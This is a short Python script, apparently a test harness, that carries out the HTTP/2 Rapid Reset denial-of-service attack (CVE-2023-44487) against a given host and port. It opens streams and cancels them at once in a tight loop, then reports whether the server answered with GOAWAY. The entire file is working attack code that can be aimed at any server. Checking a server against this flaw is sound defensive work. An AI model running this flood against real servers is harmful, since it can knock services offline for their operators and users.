"""HTTP/2 Rapid Reset (CVE-2023-44487) with the `h2` library: on one TLS connection, HEADERS
then RST_STREAM(CANCEL) for up to N streams as fast as the socket takes them, reading what
the server sends meanwhile. Prints one JSON line: streams opened, whether a GOAWAY came
(its error code and last stream id), and the seconds it took.

usage: h2_rapid_reset.py HOST PORT N PATH
"""
import json
import select
import ssl
import sys
import time

import h2.events
import h2.exceptions

import h2_tls_client

host, port, n, path = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
sock, conn = h2_tls_client.connect(host, port)
sock.sendall(conn.data_to_send())

opened, goaway, closed = 0, None, False
started = time.time()


def pump(wait):
    """Read what is there (waiting at most `wait` s); note a GOAWAY or the end."""
    global goaway, closed
    while not closed:
        ready, _, _ = select.select([sock], [], [], wait)
        if not ready and sock.pending() == 0:
            return
        try:
            data = sock.recv(65536)
        except (ssl.SSLError, OSError):
            closed = True
            return
        if not data:
            closed = True
            return
        for ev in conn.receive_data(data):
            if isinstance(ev, h2.events.ConnectionTerminated):
                goaway = {"error_code": int(ev.error_code), "last_stream_id": ev.last_stream_id}
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except OSError:
                closed = True
        wait = 0


headers = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", "localhost")]
while opened < n and goaway is None and not closed:
    try:
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, headers, end_stream=True)
        conn.reset_stream(sid)
    except h2.exceptions.ProtocolError:
        break
    opened += 1
    if opened % 20 == 0:
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            closed = True
        pump(0)
try:
    sock.sendall(conn.data_to_send())
except OSError:
    closed = True
deadline = time.time() + 5
while goaway is None and not closed and time.time() < deadline:
    pump(0.2)
print(json.dumps({"opened": opened, "goaway": goaway, "closed": closed,
                  "seconds": round(time.time() - started, 3)}))
